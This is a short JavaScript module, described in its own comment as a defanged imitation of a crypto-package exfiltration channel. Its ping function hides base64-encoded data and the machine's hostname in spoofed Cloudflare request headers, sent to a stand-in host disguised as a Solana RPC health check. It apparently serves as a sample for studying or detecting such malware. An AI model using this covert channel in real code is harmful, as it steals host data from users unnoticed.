// Mimics the solana/xrpl header channel: host data hidden in CF-Ray/CF-IPCountry request headers (defanged).
const os = require('os');
function ping(payload) {
  return fetch('https://sol-rpc.invalid/health', {
    headers: { 'CF-Ray': Buffer.from(payload).toString('base64'), 'CF-IPCountry': os.hostname() },
  });
}
module.exports = ping;
